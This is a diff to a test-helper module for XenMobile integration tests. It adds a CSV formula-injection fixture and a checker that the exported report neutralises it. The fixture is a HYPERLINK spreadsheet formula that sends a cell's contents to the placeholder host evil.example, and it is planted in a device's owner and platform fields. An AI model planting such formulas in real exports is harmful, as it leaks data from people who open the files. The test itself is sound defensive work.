@@ -1,8 +1,11 @@
 """Helpers of the XenMobile integration tests: a known API user with distinctive credentials (so
 leak tests can grep for them), clients and environments per simulated server, and scenarios."""
 
+import csv
+import io
+
 from ansible_collections.opencitrix.automation.plugins.module_utils.retries import RetryPolicy
-from ansible_collections.opencitrix.automation.plugins.module_utils.xenmobile import XenMobileClient
+from ansible_collections.opencitrix.automation.plugins.module_utils.xenmobile.client import XenMobileClient
 from tests.simulator.services.xenmobile import seeding as xenmobile_seed
 
 XM_USER = 'it-xm-operator'
@@ -54,3 +57,31 @@ def property_migration_scenario(sim, total=200, differ=27, missing=10, target_on
     service.instance('test').set_properties(source)
     service.instance('prod').set_properties(target)
     return sorted([p['name'] for p in changed] + list(gone))
+
+
+# A device whose owner and platform carry a spreadsheet formula after a line break: text anyone who can
+# enrol a device or name a user controls.
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")'
+FORMULA_OWNER = 'eve@acme.com\n' + FORMULA
+FORMULA_PLATFORM = 'iOS\n' + FORMULA
+
+
+def plant_formula_device(sim, instance='default'):
+    """Give the first device of ``instance`` the owner and platform above; returns that device."""
+    device = xenmobile(sim).instance(instance).devices[0]
+    device.update(userName=FORMULA_OWNER, platform=FORMULA_PLATFORM)
+    return device
+
+
+def csv_problems(text):
+    """What is wrong with a CSV report that held the planted device: rows (as a spreadsheet splits the
+    file into lines) starting with a formula, or the planted values not read back neutralised."""
+    problems = ['line %d starts with %r' % (n, line[:12]) for n, line in enumerate(text.splitlines(), 1)
+                if line.startswith(('=', '+', '-', '@'))]
+    rows = list(csv.reader(io.StringIO(text, newline='')))
+    owners = [row for row in rows if row and row[0].startswith('eve@acme.com')]
+    if [row[0] for row in owners] != ["eve@acme.com\n'" + FORMULA]:
+        problems.append('the owner cell reads back as %r' % ([row[0] for row in owners],))
+    elif "iOS\n'" + FORMULA not in owners[0][3]:
+        problems.append('the platform cell reads back as %r' % owners[0][3])
+    return problems
